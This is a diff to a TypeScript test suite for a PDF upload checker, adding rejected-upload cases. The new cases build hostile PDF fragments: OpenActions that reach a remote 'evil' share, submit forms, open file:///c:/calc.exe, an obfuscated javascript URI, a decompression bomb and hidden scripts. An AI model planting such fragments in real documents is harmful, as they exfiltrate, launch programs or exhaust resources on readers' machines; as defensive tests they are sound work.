@@ -98,6 +98,31 @@ const UPLOADS: Record<string, Upload> = {
   'a link that is a script': file(() => pdfs.packedPdf(pdfs.scriptLink), 'scripts'),
   'actions on closing (/AA)': file(() => pdfs.packedPdf(pdfs.additionalActions), 'scripts'),
   'a program to launch': file(() => pdfs.packedPdf(pdfs.launch), 'launches'),
+  'another file to open, of another computer': file(
+    () => pdfs.onePage('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
+    'reachesOut',
+  ),
+  'a form that is sent somewhere': file(
+    () => pdfs.onePage('/OpenAction << /S /SubmitForm /F (http://example.com) >>'),
+    'reachesOut',
+  ),
+  'an address to open by itself': file(
+    () => pdfs.onePage('/OpenAction << /S /URI /URI (file:///c:/calc.exe) >>'),
+    'reachesOut',
+  ),
+  'an address after a harmless action': file(
+    () =>
+      pdfs.onePage('/OpenAction 4 0 R', [
+        '<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>',
+        '<< /S /URI /URI (http://example.com) >>',
+      ]),
+    'reachesOut',
+  ),
+  'a link whose script stands elsewhere': file(
+    () => pdfs.onePage('', ['<< /S /URI /URI 5 0 R >>', '(java\\163cript:alert\\(1\\))']),
+    'scripts',
+  ),
+  'a script in an object stream that is not packed': file(() => pdfs.hidden('', (bytes) => bytes), 'scripts'),
   'something to play': file(() => pdfs.plainPdf(pdfs.playing), 'launches'),
   'a program inside': file(() => pdfs.packedPdf(pdfs.attachment), 'attachments'),
   'locked with a password': file(() => pdfs.packedPdf(pdfs.locked), 'encrypted'),
@@ -115,6 +140,8 @@ const UPLOADS: Record<string, Upload> = {
     () => pdfs.onePage('', [pdfs.stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(100e6)))]),
     'complex',
   ),
+
+  'a bomb that says it is a picture': file(() => pdfs.bomb(100), 'complex'),
 
   // Oversized.
   'a file of one byte too much': {
@@ -159,6 +186,12 @@ const UPLOADS: Record<string, Upload> = {
   'no subcategory': raw(() => form(whole, { subcategory: null }), REQUIRED, 'choose a subcategory'),
 };
 
+/** Told by what is found, or that it cannot be read surely. */
+const HIDDEN = Object.entries(pdfs.hiddenScripts).map(([name, bytes]): [string, Upload] => [
+  `hidden scripts ${name}`,
+  { send: () => form(bytes()), gets: [400, FAILED, 'Please print it to a new PDF.'] },
+]);
+
 onEachEngine('uploads that are not taken', ({ makeContext, engine }) => {
   // None of them gets as far as the database: one engine shows it.
   test.runIf(engine === 'sqlite')('each gets its answer, and leaves no row and no bytes', async () => {
@@ -166,7 +199,7 @@ onEachEngine('uploads that are not taken', ({ makeContext, engine }) => {
     const { request } = openApp(context);
     const { headers } = await signIn(context);
     expect(Object.keys(UPLOADS).length).toBeGreaterThanOrEqual(40);
-    for (const [name, { send, gets }] of Object.entries(UPLOADS)) {
+    for (const [name, { send, gets }] of [...Object.entries(UPLOADS), ...HIDDEN]) {
       const init = await send();
       const answer = await request(apiPaths.upload, { ...init, headers: { ...init.headers, ...headers } });
       const [status, message, detail] = gets;
